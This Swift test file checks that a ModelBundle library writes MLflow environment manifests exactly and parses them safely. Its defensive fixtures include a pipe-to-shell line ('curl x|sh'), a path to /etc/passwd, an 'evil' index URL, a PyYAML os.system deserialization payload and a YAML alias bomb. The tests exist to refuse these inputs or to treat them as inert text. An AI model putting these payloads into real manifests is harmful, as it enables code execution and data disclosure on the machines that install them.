import Foundation
import Testing

@testable import ModelBundle

/// Golden cases written by MLflow's own functions (`Scripts/make-mlflow-fixtures.py`,
/// section "Environment manifests"): the Swift writer must produce the same bytes.
@Suite struct EnvironmentManifestsTests {
    struct GoldenInput: Decodable, Sendable {
        var requirements: [String]
        var python: String
        var pip: String?
        var setuptools: String?
        var wheel: String?
        var mlflow: String
    }

    struct GoldenCase: Decodable, Sendable, CustomTestStringConvertible {
        var name: String
        var input: GoldenInput
        var requirementsText: String
        var condaText: String
        var pythonEnvText: String

        enum CodingKeys: String, CodingKey {
            case name, input
            case requirementsText = "requirements.txt"
            case condaText = "conda.yaml"
            case pythonEnvText = "python_env.yaml"
        }

        var testDescription: String { name }
    }

    struct GoldenFile: Decodable {
        var cases: [GoldenCase]
    }

    static let fixtures = URL(fileURLWithPath: #filePath)
        .deletingLastPathComponent().deletingLastPathComponent().appendingPathComponent("Fixtures")

    static func goldenCases() throws -> [GoldenCase] {
        let data = try Data(contentsOf: fixtures.appendingPathComponent("environment/cases.json"))
        return try JSONDecoder().decode(GoldenFile.self, from: data).cases
    }

    /// Read eagerly so a missing fixture fails the test run instead of yielding zero cases.
    static let cases: [GoldenCase] = (try? goldenCases()) ?? []

    @Test func goldenFileHasCases() throws {
        #expect(try Self.goldenCases().count >= 8)
    }

    @Test(arguments: cases)
    func writesMLflowsExactBytes(_ golden: GoldenCase) throws {
        let manifests = try EnvironmentManifests(
            requirements: golden.input.requirements,
            mlflowVersion: golden.input.mlflow,
            pythonVersion: golden.input.python,
            pipVersion: golden.input.pip,
            setuptoolsVersion: golden.input.setuptools,
            wheelVersion: golden.input.wheel
        )
        let files = try manifests.files()
        #expect(files.map(\.name) == ["requirements.txt", "conda.yaml", "python_env.yaml"])
        #expect(files[0].text == golden.requirementsText)
        #expect(files[1].text == golden.condaText)
        #expect(files[2].text == golden.pythonEnvText)
    }

    @Test(arguments: cases)
    func parsesWhatMLflowWrote(_ golden: GoldenCase) throws {
        let requirements = try RequirementsFile(parsing: Array(golden.requirementsText.utf8))
        #expect(requirements.text == golden.requirementsText)

        let conda = try CondaEnvironment(parsing: Array(golden.condaText.utf8))
        #expect(conda.name == "mlflow-env")
        #expect(conda.channels == ["conda-forge"])
        #expect(conda.condaDependencies.first == "python=\(golden.input.python)")
        #expect(conda.pipDependencies == requirements.lines)
        #expect(conda.pythonVersion == golden.input.python)
        #expect(try conda.text() == golden.condaText)

        let python = try PythonEnvironment(parsing: Array(golden.pythonEnvText.utf8))
        #expect(python.python == golden.input.python)
        #expect(python.dependencies == ["-r requirements.txt"])
        #expect(try python.text() == golden.pythonEnvText)
    }

    // MARK: Hand-computed expectations

    @Test func insertsMLflowFirstAndDropsDuplicates() throws {
        let file = try RequirementsFile(
            requirements: ["numpy==2.4.6", "numpy==2.4.6", "pandas==3.1.1"],
            mlflowVersion: "9.9.9"
        )
        #expect(file.text == "mlflow==9.9.9\nnumpy==2.4.6\npandas==3.1.1")
    }

    @Test(arguments: ["mlflow==2.9.0", "MLflow-Skinny==3.0.0", "mlflow-tracing>=3", "mlflow @ git+https://x/mlflow"])
    func keepsAnExistingMLflowRequirement(_ requirement: String) throws {
        let file = try RequirementsFile(requirements: ["numpy==1", requirement], mlflowVersion: "9.9.9")
        #expect(file.lines == ["numpy==1", requirement])
    }

    @Test func refusesConflictingPins() {
        #expect {
            try RequirementsFile(requirements: ["numpy==1.0", "numpy==2.0"], mlflowVersion: "1")
        } throws: { error in
            let error = try #require(error as? ModelBundleError)
            return error.code == .environmentInvalid && error.item == "requirements[2]"
        }
    }

    @Test(arguments: ["", "numpy==1\nos.system", "a\u{0}b"])
    func refusesLinesThatCannotBeWritten(_ requirement: String) {
        #expect(throws: ModelBundleError.self) {
            try RequirementsFile(requirements: [requirement], mlflowVersion: "1")
        }
    }

    @Test func readsRequirementsAsInertText() throws {
        let text =
            "# comment\r\nnumpy==1\r\n\n  -r ../../etc/passwd  \n--index-url http://evil\n-e git+https://x\nnumpy; curl x|sh\n"
        let file = try RequirementsFile(parsing: Array(text.utf8))
        #expect(
            file.lines == [
                "numpy==1", "-r ../../etc/passwd", "--index-url http://evil", "-e git+https://x", "numpy; curl x|sh",
            ]
        )
    }

    @Test func refusesOversizedOrNonUTF8Requirements() {
        #expect(throws: ModelBundleError.self) {
            try RequirementsFile(parsing: [UInt8](repeating: 0x61, count: RequirementsFile.maximumSize + 1))
        }
        #expect(throws: ModelBundleError.self) { try RequirementsFile(parsing: [0x6E, 0xFF, 0x0A]) }
    }

    @Test(arguments: [
        ("3.10", false), ("3.11.7", true), ("null", false), ("yes", false), ("2024-01-02", false), ("0x1F", false),
        ("-c constraints.txt", true), ("- x", false), ("a: b", false), ("a #b", false), ("a#b", true), ("'q", false),
        ("pkg @ https://e.com/x.whl#sha256=ab", true), (".inf", false), ("1e3", true), ("1.0e+3", false), ("", false),
    ])
    func quotesLikePyYAML(_ value: String, _ plain: Bool) {
        // Hand-checked against `yaml.safe_dump([value])` in PyYAML 6.
        #expect(PythonYAMLText.isPlainAllowed(value) == plain)
    }

    @Test func writesBareBuildDependenciesWhenVersionsAreUnknown() throws {
        let env = PythonEnvironment(python: "3.12.1", pipVersion: nil, setuptoolsVersion: "70.0", wheelVersion: nil)
        #expect(
            try env.text()
                == "python: 3.12.1\nbuild_dependencies:\n- pip\n- setuptools==70.0\n- wheel\ndependencies:\n- -r requirements.txt\n"
        )
    }

    @Test func writesAnEmptyPipListAsMLflowDoes() throws {
        // yaml.safe_dump({"channels": ["conda-forge"], "dependencies": ["python=3.9", {"pip": []}], "name": "mlflow-env"})
        let env = CondaEnvironment(pythonVersion: "3.9", pipVersion: "1", pipRequirements: [])
        #expect(
            try env.text() == "channels:\n- conda-forge\ndependencies:\n- python=3.9\n- pip: []\nname: mlflow-env\n"
        )
    }

    // MARK: Refusals

    @Test(arguments: [
        ("python: [3, 11]\n", "python_env.yaml:python"),
        ("python: 3.11.7\nbuild_dependencies: pip\n", "python_env.yaml:build_dependencies"),
        ("python: 3.11.7\ndependencies:\n- {a: b}\n", "python_env.yaml:dependencies[0]"),
        ("python: 3.11.7\nextra: 1\n", "python_env.yaml:extra"),
        ("build_dependencies: []\n", "python_env.yaml:python"),
        ("- python\n", "python_env.yaml"),
        ("python: !!python/object/apply:os.system ['id']\n", "python_env.yaml:python"),
        ("python: !custom 3\n", "python_env.yaml:python"),
        ("python: 3.11\npython: 3.12\n", "python_env.yaml"),
        ("python: 'unclosed\n", "python_env.yaml"),
        ("", "python_env.yaml"),
        ("a: 1\n---\nb: 2\n", "python_env.yaml"),
    ])
    func refusesMalformedPythonEnv(_ text: String, _ item: String) {
        #expect {
            try PythonEnvironment(parsing: Array(text.utf8))
        } throws: { error in
            let error = try #require(error as? ModelBundleError)
            return error.code == .environmentInvalid && error.item == item
        }
    }

    @Test(arguments: [
        ("channels: conda-forge\n", "conda.yaml:channels"),
        ("dependencies:\n- python=3.9\n- {pip: [a], other: [b]}\n", "conda.yaml:dependencies[1]"),
        ("dependencies:\n- pip: x\n", "conda.yaml:dependencies[0].pip"),
        ("dependencies:\n- [nested]\n", "conda.yaml:dependencies[0]"),
        ("name: [a]\n", "conda.yaml:name"),
        ("dependencies: {a: 1}\n", "conda.yaml:dependencies"),
        ("base: &b {x: 1}\n<<: *b\n", "conda.yaml"),
        ("just text\n", "conda.yaml"),
    ])
    func refusesMalformedConda(_ text: String, _ item: String) {
        #expect {
            try CondaEnvironment(parsing: Array(text.utf8))
        } throws: { error in
            let error = try #require(error as? ModelBundleError)
            return error.code == .environmentInvalid && error.item == item
        }
    }

    /// Refused as an alias, at the first one: nothing is expanded, so no amount of nesting costs work.
    @Test func refusesAliasBombAtTheFirstAlias() {
        var text = "a: &a [x, x, x, x, x, x, x, x, x]\n"
        for level in 1...8 {
            let previous = level == 1 ? "a" : "l\(level - 1)"
            text +=
                "l\(level): &l\(level) [" + Array(repeating: "*\(previous)", count: 9).joined(separator: ", ") + "]\n"
        }
        #expect {
            try CondaEnvironment(parsing: Array(text.utf8))
        } throws: { error in
            let error = try #require(error as? ModelBundleError)
            return error.code == .environmentInvalid && error.message.contains("alias")
        }
    }

    @Test func refusesDeepNesting() {
        let text = "name: " + String(repeating: "[", count: 5000) + String(repeating: "]", count: 5000) + "\n"
        #expect(throws: ModelBundleError.self) { try CondaEnvironment(parsing: Array(text.utf8)) }
    }

    @Test func refusesOversizedYAML() {
        let text = "name: " + String(repeating: "x", count: EnvironmentYAML.maximumSize) + "\n"
        #expect {
            try CondaEnvironment(parsing: Array(text.utf8))
        } throws: { error in
            (error as? ModelBundleError)?.code == .manifestTooLarge
        }
    }
}
